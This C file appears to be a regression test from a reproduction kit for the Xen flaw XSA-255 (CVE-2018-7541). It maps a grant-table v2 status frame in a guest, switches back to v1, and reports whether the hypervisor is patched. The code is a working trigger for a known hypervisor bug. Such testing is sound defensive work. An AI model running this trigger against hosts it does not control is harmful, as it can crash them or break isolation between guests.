/* SPDX-License-Identifier: MIT */
/*
 * XSA-255 (CVE-2018-7541): from grant table version 2 back to version 1 while a status frame is
 * mapped.
 *
 * @title     grant table v2 to v1 with a status frame mapped
 * @advisory  https://xenbits.xen.org/xsa/advisory-255.html
 * @affected  Xen 4.0 to 4.10; fixed in 4.10.1
 * @platforms xen-pv
 * @expect    4.10.1+=good
 *
 * Background: version 2 has frames of its own for the status of grants, which the guest maps. A
 * switch back to version 1 frees them.
 *
 * Mechanism: Xen freed them even while the guest had them mapped: at best a BUG() in Xen, at worst
 * a guest mapping of memory that Xen uses for something else.
 *
 * Verdicts: good: -EBUSY as long as the frame is mapped, and success afterwards. bad: success at
 * once, or a crash.
 *
 * Cannot tell: where version 2 is not offered (gnttab=max-ver:1). A PVH guest's mapping is removed
 * by Xen itself.
 */
#include "repro/kit.h"

#define DATA (PTE_PRESENT | PTE_WRITE | PTE_ACCESSED | PTE_DIRTY | PTE_NX)

static long set_version(u32 version)
{
    struct gnttab_set_version op = {.version = version};

    return hc_grant_table_op(GNTTABOP_set_version, &op, 1);
}

static u64 status_frame(void)
{
    u64 frame = 0;
    struct gnttab_get_status_frames op = {.nr_frames = 1, .dom = DOMID_SELF};

    set_xen_guest_handle_raw(op.frame_list, &frame);
    MUST(hc_grant_table_op(GNTTABOP_get_status_frames, &op, 1));
    if (op.status != GNTST_okay)
        cannot_tell("GNTTABOP_get_status_frames: status %d", op.status);
    return frame;
}

REPRO("xsa-255")
{
    long mapped = KIT_NOT_MADE, unmapped;
    u64 va;

    kit_needs(KIT_XEN_PV);
    kit_grant_table();
    MUST(set_version(2));
    va = kit_region() + PAGE_SIZE;
    MUST(kit_set_entry(va, 1, status_frame() << PAGE_SHIFT | DATA));
    STEP mapped = set_version(1);
    MUST(kit_set_entry(va, 1, 0));
    EVIDENCE(mapped != KIT_NOT_MADE);
    if (!mapped)
        bad("version 1 while a status frame was mapped");
    hc_mmuext_op(&((struct mmuext_op){.cmd = MMUEXT_TLB_FLUSH_LOCAL}), 1, NULL, DOMID_SELF);
    unmapped = set_version(1);
    if (mapped == -XEN_EBUSY && !unmapped)
        good("-EBUSY while it was mapped, 0 afterwards");
    cannot_tell("mapped: %ld, unmapped: %ld", mapped, unmapped);
}
